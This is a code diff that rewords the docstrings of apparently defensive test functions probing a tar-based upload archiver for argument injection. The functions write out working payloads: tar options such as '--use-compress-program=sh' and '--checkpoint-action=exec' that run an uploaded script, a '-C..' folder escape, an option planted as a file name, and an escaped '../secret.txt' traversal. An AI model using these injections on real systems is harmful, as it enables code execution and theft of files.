@@ -6,7 +6,7 @@ from .stage import Stage
 
 
 def attack_run_an_upload(target: Target, stage: Stage) -> bool:
-    """Have the archive compressed by a program of one's own, which was uploaded."""
+    """Name a program that compresses the archive: a script that the attacker has uploaded."""
     option = "--use-compress-program=sh photo.jpg"
     target.pack(stage.uploads, [option, "report.txt"])
     print("the script in photo.jpg has run:", stage.marked())
@@ -14,7 +14,7 @@ def attack_run_an_upload(target: Target, stage: Stage) -> bool:
 
 
 def attack_at_a_checkpoint(target: Target, stage: Stage) -> bool:
-    """Have a command run at each checkpoint, of which the archive has one."""
+    """Have `tar` run a command at a checkpoint, which it reaches once in this archive."""
     options = ["--checkpoint=1", "--checkpoint-action=exec=sh photo.jpg </dev/null"]
     target.pack(stage.uploads, [*options, "report.txt"])
     print("the script in photo.jpg has run:", stage.marked())
@@ -22,14 +22,14 @@ def attack_at_a_checkpoint(target: Target, stage: Stage) -> bool:
 
 
 def attack_other_folder(target: Target, stage: Stage) -> bool:
-    """Change the folder with one short option, and name what lies there."""
+    """Change the folder with a short option, and name a file that lies there."""
     archive = target.pack(stage.uploads, ["-C..", "secret.txt"])
     print(stage.content(archive))
     return stage.secret in stage.content(archive).values()
 
 
 def attack_uploaded_name(target: Target, stage: Stage) -> bool:
-    """Upload an empty file whose name is an option; now that name is known."""
+    """Upload an empty file whose name is an option, so that the name is a known one."""
     stage.write("uploads/--use-compress-program=sh photo.jpg", "")
     names = [path.name for path in stage.uploads.iterdir()]
     try:
@@ -40,7 +40,7 @@ def attack_uploaded_name(target: Target, stage: Stage) -> bool:
 
 
 def attack_escaped_name(target: Target, stage: Stage) -> bool:
-    """Upload an empty file whose name `tar` reads as an escaped `../secret.txt`."""
+    """Upload an empty file whose name `tar` unescapes to `../secret.txt`."""
     name = r"\056\056\057secret.txt"
     stage.write(f"uploads/{name}", "")
     found = stage.content(target.pack(stage.uploads, [name]))
